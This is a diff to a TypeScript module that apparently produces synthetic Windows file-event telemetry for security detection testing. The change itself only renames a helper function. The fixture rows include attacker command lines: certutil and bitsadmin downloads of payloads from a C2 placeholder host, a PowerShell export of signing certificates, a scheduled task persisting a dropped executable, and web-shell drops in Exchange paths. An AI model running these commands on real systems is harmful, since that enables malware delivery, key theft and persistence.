@@ -1,6 +1,6 @@
 import { fileHashes } from '../files.js';
 import type { Machine } from '../model.js';
-import { type Profile, initiatingVariant as proc, type Variant } from './background-generic.js';
+import { initiatingVariant as by, type Profile, type Variant } from './background-generic.js';
 import type { BackgroundContext } from './context.js';
 import type { RowSource } from './table.js';
 
@@ -28,7 +28,7 @@ function file(action: string, folder: string, name: string, by: Variant, extra: 
 const USER = 'C:\\Users\\Public';
 const STARTUP = `${USER}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup`;
 const EXCHANGE = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15';
-const w3wp = proc(
+const w3wp = by(
   `${SYS}\\inetsrv`,
   'w3wp.exe',
   'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm -h "C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config" -w "" -m 0',
@@ -40,7 +40,7 @@ export const HN_FILES: Profile = [
     'FileCreated',
     USER,
     'p.exe',
-    proc(
+    by(
       SYS,
       'certutil.exe',
       `certutil.exe -urlcache -split -f http://${C2}/payload.exe C:\\Users\\Public\\p.exe`,
@@ -52,7 +52,7 @@ export const HN_FILES: Profile = [
     'FileCreated',
     'C:\\ProgramData\\Updater',
     'update.exe',
-    proc(
+    by(
       SYS,
       'bitsadmin.exe',
       `bitsadmin.exe /transfer job /download /priority high http://${C2}/b.exe C:\\ProgramData\\Updater\\update.exe`,
@@ -64,7 +64,7 @@ export const HN_FILES: Profile = [
     'FileCreated',
     STARTUP,
     'OneDriveSync.lnk',
-    proc(
+    by(
       'C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader',
       'AcroRd32.exe',
       '"AcroRd32.exe" "C:\\Users\\Public\\Downloads\\invoice.pdf"',
@@ -74,7 +74,7 @@ export const HN_FILES: Profile = [
     'FileCreated',
     STARTUP,
     'update.exe',
-    proc(
+    by(
       'C:\\Program Files\\WinRAR',
       'WinRAR.exe',
       '"C:\\Program Files\\WinRAR\\WinRAR.exe" "C:\\Users\\Public\\Downloads\\photos.rar"',
@@ -84,11 +84,7 @@ export const HN_FILES: Profile = [
     'FileCreated',
     `${USER}\\Downloads`,
     'photos.ace',
-    proc(
-      'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
-      'msedge.exe',
-      '"msedge.exe" --type=utility',
-    ),
+    by('C:\\Program Files (x86)\\Microsoft\\Edge\\Application', 'msedge.exe', '"msedge.exe" --type=utility'),
     { FileOriginUrl: `http://${C2}/photos.ace` },
   ),
   file('FileCreated', 'C:\\inetpub\\wwwroot\\aspnet_client', 'errorEE.aspx', w3wp),
@@ -97,7 +93,7 @@ export const HN_FILES: Profile = [
     'FileCreated',
     `${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth`,
     'discover.aspx',
-    proc(
+    by(
       `${EXCHANGE}\\Bin`,
       'UMWorkerProcess.exe',
       '"UMWorkerProcess.exe" 25376 25377 3b00c3c0-f7e4-4ce0-9d5e-d3e5a4c3e1b0',
@@ -108,13 +104,13 @@ export const HN_FILES: Profile = [
     'FileCreated',
     `${SYS}\\spool\\drivers\\x64\\3`,
     'kernelbase.dll',
-    proc(SYS, 'spoolsv.exe', 'C:\\Windows\\System32\\spoolsv.exe', 'services.exe'),
+    by(SYS, 'spoolsv.exe', 'C:\\Windows\\System32\\spoolsv.exe', 'services.exe'),
   ),
   file(
     'FileCreated',
     `${USER}\\Documents`,
     'exported-signing.pfx',
-    proc(
+    by(
       `${SYS}\\WindowsPowerShell\\v1.0`,
       'powershell.exe',
       'powershell.exe -c "Get-ChildItem Cert:\\CurrentUser\\My | Export-PfxCertificate -FilePath C:\\Users\\Public\\Documents\\exported-signing.pfx -Password $p"',
@@ -124,33 +120,33 @@ export const HN_FILES: Profile = [
     'FileCreated',
     `${USER}\\Downloads`,
     'invoice.jse',
-    proc('C:\\Program Files\\Microsoft Office\\root\\Office16', 'OUTLOOK.EXE', '"OUTLOOK.EXE" /eml'),
+    by('C:\\Program Files\\Microsoft Office\\root\\Office16', 'OUTLOOK.EXE', '"OUTLOOK.EXE" /eml'),
   ),
   file(
     'FileCreated',
     `${USER}\\Downloads`,
     'settings.settingcontent-ms',
-    proc('C:\\Program Files\\Google\\Chrome\\Application', 'chrome.exe', '"chrome.exe"'),
+    by('C:\\Program Files\\Google\\Chrome\\Application', 'chrome.exe', '"chrome.exe"'),
     { FileOriginUrl: `http://${C2}/settings.settingcontent-ms` },
   ),
   file(
     'FileCreated',
     `${USER}\\Desktop`,
     'Invoice.pdf.lnk',
-    proc(SYS, 'explorer.exe', 'C:\\Windows\\Explorer.EXE', 'userinit.exe'),
+    by(SYS, 'explorer.exe', 'C:\\Windows\\Explorer.EXE', 'userinit.exe'),
   ),
   file(
     'FileRenamed',
     `${USER}\\Downloads`,
     'console.msc',
-    proc('C:\\Program Files\\Google\\Chrome\\Application', 'chrome.exe', '"chrome.exe" --type=utility'),
+    by('C:\\Program Files\\Google\\Chrome\\Application', 'chrome.exe', '"chrome.exe" --type=utility'),
     { PreviousFileName: 'Unconfirmed 482913.crdownload', FileOriginUrl: `http://${C2}/console.msc` },
   ),
   file(
     'FileCreated',
     `${USER}\\AppData\\Roaming\\Microsoft\\Office\\Recent`,
     'Overview.url',
-    proc(
+    by(
       'C:\\Program Files\\Microsoft Office\\root\\Office16',
       'WINWORD.EXE',
       '"WINWORD.EXE" /n "C:\\Users\\Public\\Downloads\\Overview.docx"',
@@ -161,7 +157,7 @@ export const HN_FILES: Profile = [
     'FileRenamed',
     STARTUP,
     'update.vbs',
-    proc(
+    by(
       'C:\\Program Files\\Microsoft Office\\root\\Office16',
       'WINWORD.EXE',
       '"WINWORD.EXE" /n "C:\\Users\\Public\\Downloads\\Invoice-4471.docm"',
@@ -173,13 +169,13 @@ export const HN_FILES: Profile = [
     'FileCreated',
     `${USER}\\AppData\\Local\\Temp\\EmailStorage_WKS01_user_1733390000\\Outlook`,
     'Inbox-0017.eml',
-    proc(SYS, 'ping.exe', 'ping.exe -t 127.0.0.1', 'msra.exe'),
+    by(SYS, 'ping.exe', 'ping.exe -t 127.0.0.1', 'msra.exe'),
   ),
   file(
     'FileCreated',
     `${SYS}\\Tasks`,
     'OneDrive Update',
-    proc(
+    by(
       SYS,
       'schtasks.exe',
       'schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Update" /tr "C:\\Users\\Public\\update.exe" /f',
